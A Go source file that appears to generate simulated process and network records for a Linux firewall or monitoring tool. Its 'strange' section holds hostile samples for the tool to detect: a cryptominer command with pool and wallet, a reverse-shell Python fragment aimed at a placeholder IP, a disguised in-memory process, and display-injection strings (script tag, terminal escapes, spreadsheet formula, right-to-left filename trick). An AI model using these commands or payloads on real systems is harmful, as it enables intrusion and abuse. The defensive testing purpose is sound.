package record

// programs are all there are; the first is that from which all descend.
func programs() []program {
	return append(append(base(), desktop()...), append(append(tools(), servers()...), strange()...)...)
}

// base is the system itself.
func base() []program {
	return []program{
		{name: "systemd", exe: "/usr/lib/systemd/systemd", pkg: "systemd", unit: "init.scope", user: "root", args: []string{"/sbin/init splash"}},
		{name: "systemd-resolve", exe: "/usr/lib/systemd/systemd-resolved", pkg: "systemd-resolved", unit: "systemd-resolved.service", user: "systemd-resolve", args: []string{"/usr/lib/systemd/systemd-resolved"},
			when: always, weight: 7, dests: []dest{{"", "router", 53, 17}, {"dns.quad9.net", "fastly", 853, 0}}, up: 58, down: 140, life: 0.03, rule: "system-names", versions: 2},
		{name: "systemd-timesyn", exe: "/usr/lib/systemd/systemd-timesyncd", pkg: "systemd-timesyncd", unit: "systemd-timesyncd.service", user: "systemd-timesync", args: []string{"/usr/lib/systemd/systemd-timesyncd"},
			when: always, weight: 0.4, dests: []dest{{"2.debian.pool.ntp.org", "hetzner-de", 123, 17}, {"0.debian.pool.ntp.org", "sweden", 123, 17}}, up: 48, down: 48, life: 0.05, rule: "system-time"},
		{name: "NetworkManager", exe: "/usr/sbin/NetworkManager", pkg: "network-manager", unit: "NetworkManager.service", user: "root", args: []string{"/usr/sbin/NetworkManager --no-daemon"},
			when: always, weight: 0.7, dests: []dest{{"network-test.debian.org", "debian", 80, 0}}, up: 90, down: 180, life: 0.2, rule: "system-network", resolves: true},
		{name: "avahi-daemon", exe: "/usr/sbin/avahi-daemon", pkg: "avahi-daemon", unit: "avahi-daemon.service", user: "avahi", args: []string{"avahi-daemon: running [desk.local]"},
			when: always, weight: 0.5, dests: []dest{{"", "lan", 5353, 17}}, up: 320, down: 900, life: 40},
		{name: "cups-browsed", exe: "/usr/sbin/cups-browsed", pkg: "cups-browsed", unit: "cups-browsed.service", user: "lp", args: []string{"/usr/sbin/cups-browsed"},
			when: always, weight: 0.2, dests: []dest{{"printer.lan", "lan", 631, 0}}, up: 900, down: 2400, life: 0.4, fails: 0.3},
		{name: "fwupdmgr", exe: "/usr/libexec/fwupd/fwupd", pkg: "fwupd", unit: "fwupd-refresh.service", user: "root", args: []string{"/usr/libexec/fwupd/fwupd"},
			when: morning, weight: 0.02, dests: web("fastly", "cdn.fwupd.org"), up: 900, down: 9e5, life: 2, rule: "system-updates", resolves: true},
		{name: "https", exe: "/usr/lib/apt/methods/http", pkg: "apt", parent: "apt.systemd.dai", user: "_apt", args: []string{"/usr/lib/apt/methods/https"}, when: morning, weight: 0.9,
			dests: join(web("debian", "ftp.uni-mirror.example", "security.mirror.example"), web("fastly", "packages.vendor.example")), up: 4e3, down: 2.5e6, life: 3, versions: 2, rule: "system-updates", resolves: true},
		{name: "apt.systemd.dai", exe: "/usr/bin/dash", pkg: "dash", unit: "apt-daily.service", user: "root", args: []string{"/bin/sh /usr/lib/apt/apt.systemd.daily update"}, script: "/usr/lib/apt/apt.systemd.daily"},
		{name: "cron", exe: "/usr/sbin/cron", pkg: "cron", unit: "cron.service", user: "root", args: []string{"/usr/sbin/cron -f"}},
		{name: "gnome-shell", exe: "/usr/bin/gnome-shell", pkg: "gnome-shell", unit: "org.gnome.Shell@wayland.service", user: "mara", args: []string{"/usr/bin/gnome-shell"},
			when: working, weight: 0.1, dests: web("fastly", "extensions.gnome.org"), up: 900, down: 3e4, life: 1, resolves: true},
		{name: "gnome-terminal-", exe: "/usr/libexec/gnome-terminal-server", pkg: "gnome-terminal", unit: "gnome-terminal-server.service", user: "mara", args: []string{"/usr/libexec/gnome-terminal-server"}},
		{name: "bash", exe: "/usr/bin/bash", pkg: "bash", parent: "gnome-terminal-", user: "mara", args: []string{"bash"}},
	}
}

// desktop is what a person runs.
func desktop() []program {
	return []program{
		{name: "firefox", exe: "/usr/lib/firefox/firefox", pkg: "firefox", parent: "gnome-shell", unit: "app-firefox.scope", user: "mara", args: []string{"/usr/lib/firefox/firefox", "/usr/lib/firefox/firefox -contentproc -isForBrowser"},
			when: evening, weight: 31, tail: 0.55, versions: 4, rule: "browsers", resolves: true, fails: 0.02, up: 2600, down: 38e3, life: 9,
			dests: join(web("google", "www.google.com", "fonts.gstatic.com", "www.youtube.com", "i.ytimg.com", "rr3---sn-4g5e6nz7.googlevideo.com"), web("wikimedia", "de.wikipedia.org", "upload.wikimedia.org"),
				web("github", "github.com", "api.github.com"), web("mozilla", "incoming.telemetry.mozilla.org", "push.services.mozilla.com", "firefox.settings.services.mozilla.com"),
				web("fastly", "www.theguardian.com", "news.ycombinator.com", "old.reddit.com"), web("cloudflare", "www.heise.de", "stackoverflow.com", "cdn.jsdelivr.net"), web("netflix", "ipv4-c012-fra001-ix.1.oca.nflxvideo.net"))},
		{name: "chrome", exe: "/opt/google/chrome/chrome", pkg: "google-chrome-stable", parent: "gnome-shell", unit: "app-gnome-google\\x2dchrome.scope", user: "jonas", args: []string{"/opt/google/chrome/chrome --type=utility --utility-sub-type=network.mojom.NetworkService"},
			when: evening, weight: 13, tail: 0.5, versions: 5, rule: "browsers", resolves: true, fails: 0.02, up: 2200, down: 30e3, life: 8,
			dests: join(web("google", "www.google.com", "clients4.google.com", "update.googleapis.com", "www.youtube.com", "rr1---sn-h0jeened.googlevideo.com"), web("fastly", "www.twitch.tv"), []dest{{"www.google.com", "google", 443, 17}})},
		{name: "thunderbird", exe: "/usr/lib/thunderbird/thunderbird-bin", pkg: "thunderbird", parent: "gnome-shell", unit: "app-thunderbird.scope", user: "mara", args: []string{"/usr/lib/thunderbird/thunderbird-bin"},
			when: working, weight: 2.2, versions: 2, rule: "mail", resolves: true, up: 1800, down: 12e3, life: 240, dests: []dest{{"imap.posteo.de", "hetzner-de", 993, 0}, {"mail.example.net", "hetzner", 993, 0}, {"posteo.de", "hetzner-de", 465, 0}}},
		{name: "slack", exe: "/usr/lib/slack/slack", pkg: "slack-desktop", parent: "gnome-shell", unit: "app-slack.scope", user: "mara", args: []string{"/usr/lib/slack/slack --type=utility"},
			when: working, weight: 3.5, versions: 3, resolves: true, up: 3400, down: 9e3, life: 120, dests: web("amazon", "wss-primary.slack.com", "slack.com", "edgeapi.slack.com", "files.slack.com")},
		{name: "spotify", exe: "/snap/spotify/82/usr/share/spotify/spotify", pkg: "none", parent: "gnome-shell", unit: "snap.spotify.spotify.scope", user: "jonas", args: []string{"/snap/spotify/82/usr/share/spotify/spotify"},
			when: evening, weight: 2.4, resolves: true, up: 2100, down: 3.2e6, life: 35, dests: join(web("spotify", "audio-fa.scdn.co", "spclient.wg.spotify.com"), []dest{{"ap-gew1.spotify.com", "spotify", 4070, 0}})},
		{name: "code", exe: "/usr/share/code/code", pkg: "code", parent: "gnome-shell", unit: "app-code.scope", user: "mara", args: []string{"/usr/share/code/code --type=utility --utility-sub-type=network.mojom.NetworkService", "/usr/share/code/code --ms-enable-electron-run-as-node"},
			when: working, weight: 3, versions: 3, rule: "editor-telemetry", would: "deny", resolves: true, up: 5200, down: 1400, life: 3, dests: web("microsoft", "mobile.events.data.microsoft.com", "vortex.data.microsoft.com", "marketplace.visualstudio.com", "update.code.visualstudio.com")},
		{name: "telegram-deskto", exe: "/usr/bin/telegram-desktop", pkg: "telegram-desktop", parent: "gnome-shell", unit: "app-telegram.scope", user: "jonas", args: []string{"/usr/bin/telegram-desktop"},
			when: evening, weight: 1.2, up: 4e3, down: 3e4, life: 600, dests: []dest{{"", "telegram", 443, 0}, {"", "telegram", 5222, 0}}},
		{name: "dropbox", exe: "/home/jonas/.dropbox-dist/dropbox-lnx.x86_64-208/dropbox", pkg: "none", parent: "gnome-shell", unit: "app-dropbox.scope", user: "jonas", args: []string{"/home/jonas/.dropbox-dist/dropbox-lnx.x86_64-208/dropbox"},
			when: always, weight: 1.1, versions: 4, resolves: true, up: 9e4, down: 4e4, life: 50, dests: web("dropbox", "bolt.dropbox.com", "client.dropbox.com", "d.dropbox.com")},
		{name: "steam", exe: "/home/jonas/.local/share/Steam/ubuntu12_32/steam", pkg: "none", parent: "gnome-shell", unit: "app-steam.scope", user: "jonas", args: []string{"/home/jonas/.local/share/Steam/ubuntu12_32/steam -srt-logger-opened"},
			when: evening, weight: 1, versions: 3, resolves: true, up: 3e3, down: 9e6, life: 20, dests: join(web("akamai", "cdn.akamai.steamstatic.com", "store.steampowered.com"), []dest{{"cmp1-fra1.steamserver.net", "fastly", 27021, 0}})},
		{name: "evolution-sourc", exe: "/usr/libexec/evolution-source-registry", pkg: "evolution-data-server", unit: "evolution-source-registry.service", user: "mara", args: []string{"/usr/libexec/evolution-source-registry"},
			when: working, weight: 0.2, resolves: true, up: 1500, down: 6e3, life: 2, dests: web("google", "www.googleapis.com")},
	}
}

// tools are what people type, and what their machines build.
func tools() []program {
	return []program{
		{name: "ssh", exe: "/usr/bin/ssh", pkg: "openssh-client", parent: "bash", user: "mara", args: []string{"ssh build.example.net", "ssh -p 2222 git@gitea.lan", "ssh root@203.0.113.9"}, when: working, weight: 0.6, rule: "ssh-out",
			up: 9e3, down: 4e4, life: 900, fails: 0.06, dests: []dest{{"build.example.net", "hetzner", 22, 0}, {"gitea.lan", "lan", 2222, 0}, {"github.com", "github", 22, 0}}, resolves: true},
		{name: "git-remote-http", exe: "/usr/lib/git-core/git-remote-http", pkg: "git", parent: "bash", user: "mara", args: []string{"/usr/lib/git-core/git-remote-https origin https://github.com/example/snitch.git", "/usr/lib/git-core/git-remote-https origin https://gitlab.com/example/site.git"},
			when: working, weight: 0.9, versions: 2, up: 4e3, down: 2e5, life: 1.5, dests: join(web("github", "github.com", "codeload.github.com"), web("cloudflare", "gitlab.com")), resolves: true},
		{name: "curl", exe: "/usr/bin/curl", pkg: "curl", parent: "bash", user: "mara", args: []string{"curl -fsSL https://get.example.org", "curl -s https://api.github.com/repos/example/snitch/releases", "curl -o data.json https://data.example.org/v2/export?from=2026-01-01&to=2026-06-30"},
			when: working, weight: 0.7, up: 700, down: 9e3, life: 0.6, fails: 0.08, tail: 0.4, dests: join(web("github", "api.github.com"), web("hetzner", "data.example.org")), resolves: true},
		{name: "wget", exe: "/usr/bin/wget", pkg: "wget", parent: "bash", user: "mara", args: []string{"wget -c https://cdimage.debian.org/debian-cd/current/amd64/iso-cd/debian-13.1.0-amd64-netinst.iso"}, when: seldom, weight: 0.1, up: 900, down: 8e7, life: 90, dests: web("sweden", "cdimage.debian.org"), resolves: true},
		{name: "node", exe: "/usr/bin/node", pkg: "nodejs", parent: "bash", user: "mara", args: []string{"npm install", "npm run dev", "node /home/mara/site/node_modules/.bin/vite"}, script: "/home/mara/site/node_modules/.bin/vite",
			when: working, weight: 2, up: 1200, down: 6e4, life: 1.4, dests: join(web("cloudflare", "packages.example.org"), []dest{{"", "self", 5173, 0}}), resolves: true},
		{name: "cargo", exe: "/home/mara/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo", pkg: "none", parent: "bash", user: "mara", args: []string{"cargo build --release"}, when: working, weight: 0.5, up: 1500, down: 3e5, life: 2, dests: web("fastly", "crates.example.io", "index.example.io"), resolves: true, versions: 3},
		{name: "go", exe: "/usr/local/go/bin/go", pkg: "none", parent: "bash", user: "mara", args: []string{"go mod download", "go get -u ./..."}, when: working, weight: 0.6, up: 900, down: 1.4e5, life: 0.8, dests: web("google", "modules.example.dev", "sum.example.dev"), resolves: true, versions: 2},
		{name: "python3", exe: "/usr/bin/python3.13", pkg: "python3.13-minimal", parent: "cron", user: "mara", args: []string{"python3 /home/mara/bin/weather.py --city Bern", "python3 /home/mara/bin/backup-photos.py"}, script: "/home/mara/bin/weather.py", when: always, weight: 1.2, up: 600, down: 7e3, life: 0.5,
			dests: join(web("hetzner-de", "api.open-meteo.com"), web("swiss", "data.geo.admin.ch")), resolves: true, rule: "scripts"},
		{name: "pip", exe: "/usr/bin/python3.13", pkg: "python3.13-minimal", parent: "bash", user: "mara", args: []string{"python3 -m pip install -r requirements.txt"}, script: "-m pip", when: working, weight: 0.2, up: 1200, down: 8e5, life: 1.2, dests: web("fastly", "wheels.example.org", "files.example.org"), resolves: true},
		{name: "dig", exe: "/usr/bin/dig", pkg: "bind9-dnsutils", parent: "bash", user: "mara", args: []string{"dig +short example.org", "dig @9.9.9.9 example.net AAAA"}, when: working, weight: 0.1, up: 60, down: 180, life: 0.04, dests: []dest{{"dns.quad9.net", "fastly", 53, 17}, {"", "router", 53, 17}}},
		{name: "ping", exe: "/usr/bin/ping", pkg: "iputils-ping", parent: "bash", user: "mara", args: []string{"ping -c4 example.org"}, when: seldom, weight: 0.05, up: 256, down: 256, life: 3, dests: []dest{{"example.org", "akamai", 0, 1}}},
		{name: "restic", exe: "/usr/bin/restic", pkg: "restic", unit: "restic-backup.service", user: "root", args: []string{"restic -r sftp:backup@store.example.net:/srv/restic backup /home /etc"}, when: nightly, weight: 0.4, up: 3.5e7, down: 9e5, life: 420, dests: []dest{{"store.example.net", "hetzner", 22, 0}}, rule: "backup", resolves: true},
	}
}

// servers are what others talk to, and what runs in containers.
func servers() []program {
	const web, db, queue, worker = "7c1f0a92b3de", "e2b90c11aa04", "18f3d0c4e7b2", "bb04a9d2c6f1"
	return []program{
		{name: "containerd-shim", exe: "/usr/bin/containerd-shim-runc-v2", pkg: "containerd.io", unit: "containerd.service", user: "root", args: []string{"/usr/bin/containerd-shim-runc-v2 -namespace moby"}},
		{name: "dockerd", exe: "/usr/bin/dockerd", pkg: "docker-ce", unit: "docker.service", user: "root", args: []string{"/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"}, when: working, weight: 0.15, up: 2e3, down: 2.4e7, life: 6, dests: []dest{{"images.example.io", "amazon-us", 443, 0}, {"layers.example.io", "cloudflare", 443, 0}}, resolves: true, rule: "containers", versions: 2},
		{name: "nginx", exe: "/usr/sbin/nginx", parent: "containerd-shim", container: web, user: "www-data", args: []string{"nginx: worker process"}, when: always, weight: 9, in: 443, up: 14e3, down: 900, life: 4, fails: 0.01, rule: "containers"},
		{name: "node", exe: "/usr/local/bin/node", parent: "containerd-shim", container: web, user: "mara", args: []string{"node /app/server.js"}, script: "/app/server.js", when: always, weight: 4, up: 800, down: 3e3, life: 30, dests: []dest{{"postgres", "pods", 5432, 0}, {"redis", "pods", 6379, 0}, {"api.stripe.com", "amazon-us", 443, 0}}, rule: "containers"},
		{name: "postgres", exe: "/usr/lib/postgresql/17/bin/postgres", parent: "containerd-shim", container: db, user: "postgres", args: []string{"postgres: app app 172.18.0.4 idle"}, when: always, weight: 1.5, in: 5432, up: 5e3, down: 2e3, life: 200, rule: "containers"},
		{name: "redis-server", exe: "/usr/local/bin/redis-server", parent: "containerd-shim", container: queue, user: "postgres", args: []string{"redis-server *:6379"}, when: always, weight: 0.8, in: 6379, up: 900, down: 700, life: 100, rule: "containers"},
		{name: "python3.12", exe: "/usr/local/bin/python3.12", parent: "containerd-shim", container: worker, user: "mara", args: []string{"python3 -m celery -A shop worker -l info"}, script: "-m celery", when: always, weight: 2.5, up: 1500, down: 4e3, life: 8, tail: 0.05, dests: []dest{{"redis", "pods", 6379, 0}, {"smtp.example.net", "hetzner", 587, 0}, {"api.stripe.com", "amazon-us", 443, 0}}, rule: "containers"},
		{name: "prometheus", exe: "/usr/bin/prometheus", pkg: "prometheus", unit: "prometheus.service", user: "prometheus", args: []string{"/usr/bin/prometheus --storage.tsdb.path=/var/lib/prometheus"}, when: always, weight: 2, up: 400, down: 2e4, life: 60, dests: []dest{{"", "self", 9100, 0}, {"", "self", 9090, 0}, {"", "pods", 9187, 0}}, rule: "local"},
		{name: "sshd", exe: "/usr/sbin/sshd", pkg: "openssh-server", unit: "ssh.service", user: "root", args: []string{"sshd: [accepted]"}, when: always, weight: 2.2, in: 22, up: 1600, down: 1300, life: 2, fails: 0.6, rule: "ssh-in", would: "alert"},
	}
}

// strange is what one has a firewall for.
func strange() []program {
	return []program{
		{name: "kworkerd", exe: "/tmp/.X11-lock/kworkerd", pkg: "none", parent: "sh", user: "jonas", args: []string{"/tmp/.X11-lock/kworkerd -o pool.hashvault.pro:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k"},
			when: always, weight: 0.25, up: 3e3, down: 6e3, life: 500, dests: []dest{{"pool.hashvault.pro", "vietnam", 3333, 0}, {"", "iran", 3333, 0}}, rule: "run-from-tmp", would: "deny", resolves: true},
		{name: "sh", exe: "/usr/bin/dash", pkg: "dash", parent: "bash", user: "jonas", args: []string{"sh"}},
		{name: "install", exe: "/tmp/install.k2Lq/install", pkg: "none", parent: "sh", user: "jonas", args: []string{"/tmp/install.k2Lq/install --quiet"}, kind: "deleted", when: seldom, weight: 0.02, up: 900, down: 4e5, life: 1, tail: 1, rule: "run-from-tmp", would: "deny", resolves: true, versions: 6},
		{name: "memfd:x", exe: "memfd:x", parent: "kworkerd", user: "jonas", args: []string{"[kworker/u8:2]"}, kind: "memfd", when: nightly, weight: 0.02, up: 4e5, down: 900, life: 4, dests: []dest{{"", "russia", 8443, 0}}, rule: "run-from-memory", would: "deny"},
		{name: "\x1b[31mpwned", exe: "/home/jonas/Downloads/\u202egpj.exe", pkg: "none", parent: "sh", user: "jonas", args: []string{"./x <script>alert(document.domain)</script> \x1b]0;title\x07 'quoted' \"double\" =cmd|' /C calc'!A0\nsecond line"},
			when: seldom, weight: 0.02, up: 700, down: 700, life: 1, dests: []dest{{"xn--pple-43d.com", "russia", 443, 0}, {"very-long-name-" + "that-goes-on-and-on-and-on.and-on-and-on-and-on-and-on.example-of-a-domain-that-does-not-fit.example", "china", 443, 0}}, rule: "new-program", would: "alert"},
		{name: "nmap", exe: "/usr/bin/nmap", pkg: "nmap", parent: "bash", user: "mara", args: []string{"nmap -sT 192.168.1.0/24"}, when: seldom, weight: 0.3, up: 0, down: 0, life: 0.01, fails: 0.97, dests: []dest{{"", "lan", 22, 0}, {"", "lan", 80, 0}, {"", "lan", 443, 0}, {"", "lan", 445, 0}, {"", "lan", 3389, 0}}},
		{name: "python3", exe: "/usr/bin/python3.13", pkg: "python3.13-minimal", parent: "sh", user: "jonas", args: []string{"python3 -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.77\",4444))"}, when: nightly, weight: 0.01, up: 900, down: 300, life: 60, dests: []dest{{"", "turkey", 4444, 0}}, rule: "shell-talks", would: "deny"},
	}
}
